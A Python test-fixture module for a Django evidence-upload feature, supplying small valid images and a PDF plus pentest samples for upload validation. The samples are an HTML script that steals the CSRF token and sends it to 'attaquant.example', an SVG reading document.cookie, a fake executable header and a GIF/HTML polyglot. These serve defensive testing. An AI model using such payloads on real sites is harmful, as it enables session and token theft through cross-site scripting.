"""File contents for evidence tests: real small images and a PDF, and the pentest's files."""
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cpro_platform.suivi.models import Evaluation


def image(format_: str) -> bytes:
    sortie = io.BytesIO()
    Image.new("RGB", (2, 2), (200, 30, 30)).save(sortie, format=format_)
    return sortie.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
#: The allowed types, by MIME type: (content, canonical extension).
AUTORISES = {"image/jpeg": (image("JPEG"), "jpg"), "image/png": (image("PNG"), "png"),
             "image/webp": (image("WEBP"), "webp"), "application/pdf": (PDF, "pdf")}

VOL_DE_JETON = (b"<html><body><script>fetch('/suivi/').then(r => r.text()).then(t => "
                b"new Image().src = 'https://attaquant.example/?' + "
                b"t.match(/csrfmiddlewaretoken\" value=\"(\\w+)/)[1])</script></body></html>")
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script>'
       b"</svg>")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
#: A GIF header followed by HTML: a browser sniffing it may run the script.
GIF_HTML = b"GIF89a/*\x00\x00*/=1;<html><script>alert(1)</script></html>"


def fichier(nom: str, contenu: bytes, type_declare: str) -> SimpleUploadedFile:
    """An upload as a browser posts it: a name and a declared type, both chosen by the user."""
    return SimpleUploadedFile(nom, contenu, content_type=type_declare)


def stockage():
    """The storage evidence files go to (the FileField's own)."""
    return Evaluation._meta.get_field("preuve").storage


def fichiers_stockes(dossier: str = "") -> set[str]:
    """Every file in the evidence storage (folders left empty do not count)."""
    dossiers, fichiers = stockage().listdir(dossier)
    chemins = {f"{dossier}/{nom}" if dossier else nom for nom in fichiers}
    for sous in dossiers:
        chemins |= fichiers_stockes(f"{dossier}/{sous}" if dossier else sous)
    return chemins
